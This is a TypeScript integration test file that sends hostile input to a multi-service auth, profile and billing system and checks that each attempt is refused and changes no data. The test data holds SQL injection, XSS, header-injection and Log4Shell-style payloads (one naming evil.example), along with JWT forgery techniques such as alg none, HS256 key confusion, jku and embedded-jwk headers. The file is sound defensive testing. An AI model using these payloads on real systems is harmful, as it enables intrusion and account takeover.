import { createHmac, randomBytes, randomUUID } from "node:crypto";
import { chmod, mkdtemp, rm } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { create, toBinary } from "@bufbuild/protobuf";
import { Code, ConnectError, createClient, type Client } from "@connectrpc/connect";
import { createConnectTransport } from "@connectrpc/connect-node";
import { jetstream } from "@nats-io/jetstream";
import { connect, headers as natsHeaders, type NatsConnection } from "@nats-io/transport-node";
import { exportJWK, generateKeyPair, importJWK, SignJWT, UnsecuredJWT, type JWK } from "jose";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { waitUntil } from "@acme/devstack";
import { AuthService } from "@acme/gen/acme/auth/v1/auth_service_pb";
import { UserRegisteredSchema } from "@acme/gen/acme/auth/events/v1/events_pb";
import { BillingService } from "@acme/gen/acme/billing/v1/billing_service_pb";
import { ProfileService } from "@acme/gen/acme/profile/v1/profile_service_pb";
import { userRegistered } from "../../../services/auth/src/events/user-events.js";
import { KeySealer } from "../../../services/auth/src/security/key-sealer.js";
import { databaseDigest } from "../src/db-digest.js";
import { CONSUMERS } from "../src/invariant.js";
import { FaultSystem, STREAM } from "../src/system.js";

/**
 * Hostile input against the running system (processes, each service with
 * its own PostgreSQL and NATS user, as in `npm start`): every attempt gets
 * its refusal and changes nothing in any database. Cases already covered
 * elsewhere are not repeated here (docs/faults.md lists them).
 */
const PASSWORD = "correct horse battery staple";
const codeOf = (error: unknown) => ConnectError.from(error).code;

describe("hostile input against the running system", () => {
  let dir: string;
  let system: FaultSystem;
  let auth: Client<typeof AuthService>;
  const bearer = (token: string) => ({ headers: { authorization: `Bearer ${token}` } });
  const profileClient = () => createClient(ProfileService, createConnectTransport({ baseUrl: system.url("profile-1"), httpVersion: "1.1" }));
  const billingClient = () => createClient(BillingService, createConnectTransport({ baseUrl: system.url("billing"), httpVersion: "1.1" }));

  async function post(base: string, path: string, body: string | Uint8Array, contentType = "application/json", extra: Record<string, string> = {}) {
    const res = await fetch(`${base}${path}`, { method: "POST", headers: { "content-type": contentType, ...extra }, body });
    const text = await res.text();
    let code: string | undefined;
    try {
      code = (JSON.parse(text) as { code?: string }).code;
    } catch {
      code = undefined;
    }
    return { status: res.status, code, text };
  }

  /** Registers, logs in and waits until profile and billing hold the user. */
  async function member(email: string): Promise<{ userId: string; token: string }> {
    const { userId } = await auth.register({ email, password: PASSWORD });
    const { accessToken } = await auth.login({ email, password: PASSWORD });
    await waitUntil(
      `${email} in profile and billing`,
      async () => {
        const [p] = await system.sql("profile")`select 1 from profiles where user_id = ${userId}`;
        const [b] = await system.sql("billing")`select 1 from billing_contacts where user_id = ${userId}`;
        return !!p && !!b;
      },
      15_000,
    );
    // ...and auth's relay has marked the event sent, so the databases are still until the next write.
    await waitUntil("outbox marked", async () => (await system.sql("auth")`select 1 from outbox where published_at is null`).length === 0);
    return { userId, token: accessToken };
  }

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "acme-hostile-"));
    await chmod(dir, 0o755);
    system = await FaultSystem.start({ dir, profileInstances: 1 });
    auth = createClient(AuthService, createConnectTransport({ baseUrl: system.url("auth"), httpVersion: "1.1" }));
    const jsm = await system.jsm();
    await waitUntil(
      "every durable consumer",
      async () => (await Promise.all(CONSUMERS.map((d) => jsm.consumers.info(STREAM, d)))).length === CONSUMERS.length,
      30_000,
    );
  }, 180_000); // four PostgreSQL servers, nats-server, the mail sink and five services: over 90 s on a shared 2-core machine
  afterAll(async () => {
    await system?.stop();
    if (dir) await rm(dir, { recursive: true, force: true });
  }, 60_000);

  describe("RPC bodies", () => {
    const REGISTER = "/acme.auth.v1.AuthService/Register";
    const invalidUtf8 = Buffer.concat([Buffer.from('{"email":"ab'), Buffer.from([0xff, 0xfe]), Buffer.from(`c@example.com","password":"${PASSWORD}"}`)]);
    const protoString = (field: number, bytes: Buffer) => Buffer.concat([Buffer.from([(field << 3) | 2, bytes.length]), bytes]);
    const invalidUtf8Proto = Buffer.concat([
      protoString(1, Buffer.from([0x61, 0xc3, 0x28, ...Buffer.from("@example.com")])),
      protoString(2, Buffer.from(PASSWORD)),
    ]);
    const cases: Array<[string, string | Uint8Array, string, number, string[]]> = [
      ["malformed JSON", '{"email": "x@example.com", "password":', "application/json", 400, ["invalid_argument"]],
      ["a JSON array", "[]", "application/json", 400, ["invalid_argument"]],
      ["JSON null", "null", "application/json", 400, ["invalid_argument"]],
      ["fields of the wrong type", '{"email": 5, "password": ["x"]}', "application/json", 400, ["invalid_argument"]],
      ["invalid UTF-8 inside a JSON string", invalidUtf8, "application/json", 400, ["invalid_argument"]],
      [
        "a body over the 64 KiB limit",
        JSON.stringify({ email: `${"x".repeat(70_000)}@example.com`, password: PASSWORD }),
        "application/json",
        429,
        ["resource_exhausted"],
      ],
      [
        "a 60,000-character email",
        JSON.stringify({ email: `${"x".repeat(60_000)}@example.com`, password: PASSWORD }),
        "application/json",
        400,
        ["invalid_argument"],
      ],
      [
        "a 60,000-character password",
        JSON.stringify({ email: "long.password@example.com", password: "p".repeat(60_000) }),
        "application/json",
        400,
        ["invalid_argument"],
      ],
      ["content type text/plain", JSON.stringify({ email: "plain@example.com", password: PASSWORD }), "text/plain", 415, []],
      ["a form post", "email=form%40example.com&password=x", "application/x-www-form-urlencoded", 415, []],
      ["XML", "<register><email>xml@example.com</email></register>", "application/xml", 415, []],
      // connect-es labels a binary body it cannot parse `internal` (protocol/serialization.js); refused all the same.
      ["random bytes as protobuf", randomBytes(64), "application/proto", 500, ["internal", "invalid_argument"]],
      ["invalid UTF-8 in a protobuf string", invalidUtf8Proto, "application/proto", 500, ["internal", "invalid_argument"]],
    ];

    it.each(cases)("Register refuses %s and creates nothing", async (_name, body, contentType, status, codes) => {
      const before = await databaseDigest(system);
      const res = await post(system.url("auth"), REGISTER, body, contentType);
      expect(res.status, res.text).toBe(status);
      if (codes.length) expect(codes, res.text).toContain(res.code);
      expect(await databaseDigest(system)).toEqual(before);
    });

    it("profile and billing refuse malformed, oversized, mistyped and over-long updates, even from the owner", async () => {
      const { userId, token } = await member("body.owner@example.com");
      const before = await databaseDigest(system);
      const auth = { authorization: `Bearer ${token}` };
      const updates: Array<[string, string, string | Uint8Array, string, number]> = [
        [system.url("profile-1"), "/acme.profile.v1.ProfileService/UpdateProfile", `{"userId":"${userId}","displayName":`, "application/json", 400],
        [
          system.url("profile-1"),
          "/acme.profile.v1.ProfileService/UpdateProfile",
          JSON.stringify({ userId, displayName: "d".repeat(70_000) }),
          "application/json",
          429,
        ],
        [
          system.url("profile-1"),
          "/acme.profile.v1.ProfileService/UpdateProfile",
          JSON.stringify({ userId, displayName: "d".repeat(60_000) }),
          "application/json",
          400,
        ],
        [
          system.url("profile-1"),
          "/acme.profile.v1.ProfileService/UpdateProfile",
          Buffer.concat([Buffer.from(`{"userId":"${userId}","displayName":"`), Buffer.from([0xc3, 0x28]), Buffer.from('"}')]),
          "application/json",
          400,
        ],
        [system.url("profile-1"), "/acme.profile.v1.ProfileService/UpdateProfile", JSON.stringify({ userId, displayName: "x" }), "text/plain", 415],
        [system.url("billing"), "/acme.billing.v1.BillingService/UpdateBillingAddress", `{"userId":"${userId}","address":{"line1":`, "application/json", 400],
        [
          system.url("billing"),
          "/acme.billing.v1.BillingService/UpdateBillingAddress",
          JSON.stringify({ userId, address: { line1: "l".repeat(60_000), city: "Paris", postalCode: "75001", countryCode: "FR" } }),
          "application/json",
          400,
        ],
        [
          system.url("billing"),
          "/acme.billing.v1.BillingService/UpdateBillingAddress",
          JSON.stringify({ userId, billingEmail: "b".repeat(70_000) }),
          "application/json",
          429,
        ],
        [
          system.url("billing"),
          "/acme.billing.v1.BillingService/UpdateBillingAddress",
          JSON.stringify({ userId, address: "not an object" }),
          "application/json",
          400,
        ],
        [
          system.url("billing"),
          "/acme.billing.v1.BillingService/UpdateBillingAddress",
          JSON.stringify({ userId, billingEmail: "x@example.com" }),
          "application/xml",
          415,
        ],
      ];
      for (const [base, path, body, contentType, status] of updates) {
        const res = await post(base, path, body, contentType, auth);
        expect(res.status, `${path} ${String(body).slice(0, 60)}: ${res.text.slice(0, 200)}`).toBe(status);
      }
      expect(await databaseDigest(system)).toEqual(before);
    });
  });

  describe("injection-looking emails", () => {
    it.each([
      "'; drop table credentials; --@example.com",
      "x@example.com' or '1'='1",
      "<script>alert(1)</script>@example.com",
      '"><img src=x onerror=alert(1)>@example.com',
      "admin@example.com\r\nBcc: victim@example.com",
      "x@example.com;select pg_sleep(5)",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, literally
      "${jndi:ldap://evil.example/a}@example.com",
      "x@example.com\u0000.evil.example",
      "robert'); delete from outbox;--@example.com",
    ])("refuses %j with invalid_argument and changes nothing", async (email) => {
      const before = await databaseDigest(system);
      await expect(auth.register({ email, password: PASSWORD })).rejects.toMatchObject({ code: Code.InvalidArgument });
      await expect(auth.login({ email, password: PASSWORD })).rejects.toMatchObject({
        code: Code.Unauthenticated,
        rawMessage: "email or password is incorrect",
      });
      expect(await databaseDigest(system)).toEqual(before);
    });

    it("stores a legal address full of quotes and dashes as plain data, nothing else", async () => {
      const email = "o'reilly--'or'1'='1@example.com";
      const before = await databaseDigest(system);
      const { userId } = await member(email);
      expect(await system.sql("auth")`select contact_email from credentials where user_id = ${userId}`).toEqual([{ contact_email: email }]);
      expect(await system.sql("profile")`select account_email from profiles where user_id = ${userId}`).toEqual([{ account_email: email }]);
      expect(await system.sql("billing")`select account_email from billing_contacts where user_id = ${userId}`).toEqual([{ account_email: email }]);
      const after = await databaseDigest(system);
      const changed = Object.keys(after)
        .filter((table) => after[table] !== before[table])
        .sort();
      // One account, its event, and its profile and contact; every other table as it was.
      expect(changed).toEqual([
        "auth.credentials",
        "auth.outbox",
        "auth.passwords",
        "billing.billing_contacts",
        "billing.processed_events",
        "profile.processed_events",
        "profile.profiles",
      ]);
      for (const table of changed) expect(after[table]!.startsWith(`${Number(before[table]!.split(" ")[0]) + 1} rows`), table).toBe(true);
    });
  });

  describe("events on auth's subjects", () => {
    let nc: NatsConnection;
    beforeAll(async () => {
      nc = await connect({ servers: system.natsUrl, ...system.natsUser("auth") });
    });
    afterAll(() => nc?.close());

    const ceHeaders = (type: string | undefined, id = randomUUID()) => {
      const h = natsHeaders();
      if (type) {
        h.set("ce-type", type);
        h.set("ce-id", id);
        h.set("ce-specversion", "1.0");
        h.set("ce-source", "/acme/auth");
        h.set("ce-datacontenttype", "application/protobuf");
      }
      return h;
    };

    async function deadLetters(stream: string, after: number): Promise<string[]> {
      const jsm = await system.jsm();
      const last = (await jsm.streams.info(stream)).state.last_seq;
      const reasons: string[] = [];
      for (let seq = after + 1; seq <= last; seq++) reasons.push((await jsm.streams.getMessage(stream, { seq }))!.header.get("dlq-reason"));
      return reasons;
    }

    it("random bytes and truncated protobuf are dead-lettered with their reason; a valid event after them is still applied", async () => {
      const jsm = await system.jsm();
      const dlqBefore = await Promise.all(
        ["DLQ_PROFILE", "DLQ_BILLING"].map(async (s) => (await jsm.streams.info(s).catch(() => undefined))?.state.last_seq ?? 0),
      );
      const before = await databaseDigest(system);
      const js = jetstream(nc);
      const type = UserRegisteredSchema.typeName;
      const valid = toBinary(UserRegisteredSchema, create(UserRegisteredSchema, { userId: randomUUID(), email: "truncated@example.com", revision: 1n }));
      const poison: Array<[Uint8Array, ReturnType<typeof ceHeaders>]> = [
        [randomBytes(48), ceHeaders(type)],
        [valid.subarray(0, valid.length - 5), ceHeaders(type)],
        [randomBytes(48), ceHeaders(undefined)],
        [toBinary(UserRegisteredSchema, create(UserRegisteredSchema, { email: "nobody@example.com", revision: 1n })), ceHeaders(type)],
      ];
      for (const [body, h] of poison) await js.publish("auth.events.user_registered.v1", body, { headers: h });

      const after = { userId: randomUUID(), email: "after.poison@example.com" };
      const event = userRegistered({ ...after, at: new Date() }, { subjectPrefix: "auth.events" });
      const h = natsHeaders();
      for (const [k, v] of Object.entries(event.headers)) h.set(k, v);
      await js.publish(event.subject, event.payload, { headers: h, msgID: event.eventId });
      await waitUntil(
        "the valid event in both consumers",
        async () => {
          const [p] = await system.sql("profile")`select 1 from profiles where user_id = ${after.userId}`;
          const [b] = await system.sql("billing")`select 1 from billing_contacts where user_id = ${after.userId}`;
          return !!p && !!b;
        },
        15_000,
      );

      const expected = ["undecodable", "undecodable", "missing-header", "invalid-event"];
      await waitUntil(
        "dead letters",
        async () => (await deadLetters("DLQ_PROFILE", dlqBefore[0]!)).length === 4 && (await deadLetters("DLQ_BILLING", dlqBefore[1]!)).length === 4,
      );
      expect(await deadLetters("DLQ_PROFILE", dlqBefore[0]!)).toEqual(expected);
      expect(await deadLetters("DLQ_BILLING", dlqBefore[1]!)).toEqual(expected);
      // Nothing but the valid event changed a consumer: one row and one inbox entry each.
      const now = await databaseDigest(system);
      const changed = Object.keys(now)
        .filter((table) => now[table] !== before[table])
        .sort();
      expect(changed).toEqual(["billing.billing_contacts", "billing.processed_events", "profile.processed_events", "profile.profiles"]);
      expect(await system.sql("profile")`select count(*)::int as n from processed_events where event_id = ${event.eventId}`).toEqual([{ n: 1 }]);
    });

    it("profile and billing may not publish auth's events, nor touch each other's dead letters or auth's stream: NATS refuses, nothing is applied", async () => {
      const jsm = await system.jsm();
      const lastSeq = (await jsm.streams.info(STREAM)).state.last_seq;
      const before = await databaseDigest(system);
      const forged = { userId: randomUUID(), email: "forged@example.com" };
      const event = userRegistered({ ...forged, at: new Date() }, { subjectPrefix: "auth.events" });
      for (const service of ["profile", "billing"] as const) {
        const impostor = await connect({ servers: system.natsUrl, ...system.natsUser(service), inboxPrefix: `_INBOX_${service}` });
        const violations: string[] = [];
        void (async () => {
          for await (const s of impostor.status()) if (s.type === "error") violations.push(String((s as { error?: unknown }).error));
        })();
        try {
          const h = natsHeaders();
          for (const [k, v] of Object.entries(event.headers)) h.set(k, v);
          const js = jetstream(impostor);
          await expect(js.publish(event.subject, event.payload, { headers: h, msgID: event.eventId, timeout: 2_000 })).rejects.toThrow(
            `Permissions Violation for Publish to "${event.subject}"`,
          );
          const other = service === "profile" ? "billing" : "profile";
          await expect(js.publish(`dlq.${other}.${event.subject}`, event.payload, { timeout: 2_000 })).rejects.toThrow(/Permissions Violation for Publish/);
          await expect(impostor.request(`$JS.API.STREAM.PURGE.${STREAM}`, "", { timeout: 2_000 })).rejects.toThrow(/Permissions Violation for Publish/);
          impostor.publish(event.subject, event.payload, { headers: h });
          await impostor.flush();
          await waitUntil(
            "the server's refusal of a plain publish",
            async () => violations.some((v) => v.includes(`Permissions Violation for Publish to "${event.subject}"`)),
            5_000,
          );
        } finally {
          await impostor.close();
        }
      }
      expect((await jsm.streams.info(STREAM)).state.last_seq).toBe(lastSeq);
      // A marker published by auth's user after the attempts is applied: the forged one, before it, is not.
      const marker = userRegistered({ userId: randomUUID(), email: "marker@example.com", at: new Date() }, { subjectPrefix: "auth.events" });
      const h = natsHeaders();
      for (const [k, v] of Object.entries(marker.headers)) h.set(k, v);
      await jetstream(nc).publish(marker.subject, marker.payload, { headers: h, msgID: marker.eventId });
      await waitUntil(
        "marker applied",
        async () =>
          (await system.sql("billing")`select 1 from processed_events where event_id = ${marker.eventId}`).length === 1 &&
          (await system.sql("profile")`select 1 from processed_events where event_id = ${marker.eventId}`).length === 1,
      );
      for (const c of ["profile", "billing"] as const) {
        expect(await system.sql(c)`select event_id from processed_events where event_id = ${event.eventId}`).toEqual([]);
      }
      expect(await system.sql("profile")`select 1 from profiles where user_id = ${forged.userId}`).toEqual([]);
      expect(await system.sql("billing")`select 1 from billing_contacts where user_id = ${forged.userId}`).toEqual([]);
      const after = await databaseDigest(system);
      expect(
        Object.keys(after)
          .filter((t) => after[t] !== before[t])
          .sort(),
      ).toEqual(["billing.billing_contacts", "billing.processed_events", "profile.processed_events", "profile.profiles"]);
    });
  });

  describe("forged access tokens", () => {
    let victim: { userId: string; token: string };
    let jkuServer: Server;
    let jkuRequests = 0;
    let attacks: Record<string, string>;

    beforeAll(async () => {
      victim = await member("jwt.victim@example.com");
      const [key] = await system.sql("auth")<{ kid: string; sealed_private_jwk: string; public_jwk: JWK }[]>`
        select kid, sealed_private_jwk, public_jwk from signing_keys where retired_at is null order by created_at desc limit 1`;
      // The attacker here holds auth's real private key (sealed in the database: opened with the run's key).
      const privateJwk = new KeySealer(Buffer.from(system.authKeyEncryptionKey, "base64")).unseal<JWK>(key!.kid, key!.sealed_private_jwk);
      const authKey = await importJWK(privateJwk, "EdDSA");
      const attacker = await generateKeyPair("EdDSA", { crv: "Ed25519", extractable: true });
      const attackerJwk = { ...(await exportJWK(attacker.publicKey)), kid: "attacker", alg: "EdDSA", use: "sig" };
      jkuServer = createServer((_req, res) => {
        jkuRequests++;
        res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ keys: [attackerJwk] }));
      });
      await new Promise<void>((resolve) => jkuServer.listen(0, "127.0.0.1", resolve));
      const jku = `http://127.0.0.1:${(jkuServer.address() as { port: number }).port}/jwks.json`;

      const now = Math.floor(Date.now() / 1000);
      const claims = { iss: "acme-auth", aud: "acme", sub: victim.userId };
      const signed = (header: Record<string, unknown>, signer: Parameters<SignJWT["sign"]>[0], overrides: Record<string, unknown> = {}) =>
        new SignJWT({ ...claims, iat: now, exp: now + 600, ...overrides })
          .setProtectedHeader({ alg: "EdDSA", typ: "JWT", ...header } as { alg: string })
          .sign(signer);
      const hs256 = (secret: Buffer | string, kid = key!.kid) => {
        const head = Buffer.from(JSON.stringify({ alg: "HS256", typ: "JWT", kid })).toString("base64url");
        const body = Buffer.from(JSON.stringify({ ...claims, iat: now, exp: now + 600 })).toString("base64url");
        return `${head}.${body}.${hmac(secret, `${head}.${body}`)}`;
      };
      attacks = {
        "alg none": new UnsecuredJWT({ ...claims, iat: now, exp: now + 600 }).encode(),
        "HS256 keyed with the public key's bytes": hs256(Buffer.from(key!.public_jwk.x!, "base64url")),
        "HS256 keyed with the public JWK as text": hs256(JSON.stringify(key!.public_jwk)),
        "expired (auth's real key)": await signed({ kid: key!.kid }, authKey, { iat: now - 3_600, exp: now - 600 }),
        "not valid before an hour from now (auth's real key)": await signed({ kid: key!.kid }, authKey, { nbf: now + 3_600 }),
        "wrong audience (auth's real key)": await signed({ kid: key!.kid }, authKey, { aud: "billing-admin" }),
        "wrong issuer (auth's real key)": await signed({ kid: key!.kid }, authKey, { iss: "evil-auth" }),
        "issued two days ago, expiring next year (auth's real key; past the verifiers' maximum age)": await signed({ kid: key!.kid }, authKey, {
          iat: now - 2 * 86_400,
          exp: now + 365 * 86_400,
        }),
        "no expiry (auth's real key)": await new SignJWT({ ...claims, iat: now }).setProtectedHeader({ alg: "EdDSA", kid: key!.kid }).sign(authKey),
        "unknown kid": await signed({ kid: "not-published" }, attacker.privateKey),
        "auth's kid, attacker's key": await signed({ kid: key!.kid }, attacker.privateKey),
        "jku header pointing at the attacker's keys": await signed({ kid: "attacker", jku }, attacker.privateKey),
        "embedded jwk header": await signed({ jwk: await exportJWK(attacker.publicKey) }, attacker.privateKey),
        garbage: "not.a.jwt",
      };
    });
    afterAll(() => new Promise<void>((resolve) => (jkuServer ? jkuServer.close(() => resolve()) : resolve())));

    it("the genuine token works (so the refusals below are about the forgery)", async () => {
      expect((await profileClient().getProfile({ userId: victim.userId }, bearer(victim.token))).profile?.userId).toBe(victim.userId);
      expect((await billingClient().getBillingContact({ userId: victim.userId }, bearer(victim.token))).contact?.userId).toBe(victim.userId);
    });

    it("every forgery is unauthenticated at profile, billing and auth, reads nothing and changes nothing", async () => {
      const before = await databaseDigest(system);
      const outcomes: Record<string, string[]> = {};
      for (const [name, token] of Object.entries(attacks)) {
        const calls = [
          profileClient().getProfile({ userId: victim.userId }, bearer(token)),
          profileClient().updateProfile({ userId: victim.userId, displayName: "pwned" }, bearer(token)),
          billingClient().getBillingContact({ userId: victim.userId }, bearer(token)),
          billingClient().updateBillingAddress({ userId: victim.userId, billingEmail: "attacker@evil.example" }, bearer(token)),
          auth.changeEmail({ newEmail: "attacker@evil.example", currentPassword: PASSWORD }, bearer(token)),
        ];
        outcomes[name] = await Promise.all(
          calls.map((call) =>
            (call as Promise<unknown>).then(
              () => "ok",
              (error: unknown) => Code[codeOf(error)]!,
            ),
          ),
        );
      }
      const refused = Object.fromEntries(Object.keys(attacks).map((name) => [name, Array(5).fill("Unauthenticated")]));
      expect(outcomes).toEqual(refused);
      expect(jkuRequests).toBe(0);
      expect(await databaseDigest(system)).toEqual(before);
    });
  });

  // Last: it exhausts this client's login budget on this auth for a minute.
  describe("login brute force", () => {
    it("answers unknown email and wrong password alike, then rate-limits the client with resource_exhausted, even for the right password", async () => {
      await member("brute@example.com");
      const before = await databaseDigest(system);
      const failure = (email: string, password: string) =>
        auth.login({ email, password }).then(
          () => undefined,
          (e: unknown) => ConnectError.from(e),
        );
      const wrong = await failure("brute@example.com", "not the password");
      const unknown = await failure("nobody.here@example.com", "not the password");
      expect(wrong).toMatchObject({ code: Code.Unauthenticated, rawMessage: "email or password is incorrect" });
      expect(unknown).toMatchObject({ code: wrong!.code, rawMessage: wrong!.rawMessage });
      // 20 failures per client per minute, across any accounts (5 per account are tested in services/auth).
      for (let i = 0; i < 18; i++) expect((await failure(`guess${i}@example.com`, "hunter22"))?.code).toBe(Code.Unauthenticated);
      const res = await fetch(`${system.url("auth")}/acme.auth.v1.AuthService/Login`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ email: "brute@example.com", password: PASSWORD }),
      });
      const body = (await res.json()) as { code: string; message: string };
      expect(res.status).toBe(429);
      expect(body.code).toBe("resource_exhausted");
      expect(body.message).toMatch(/^too many failed sign-in attempts; try again in \d+ seconds$/);
      expect(Number(res.headers.get("retry-after"))).toBeGreaterThan(0);
      expect(await databaseDigest(system)).toEqual(before);
    });
  });
});

function hmac(secret: Buffer | string, input: string): string {
  return createHmac("sha256", secret).update(input).digest("base64url");
}
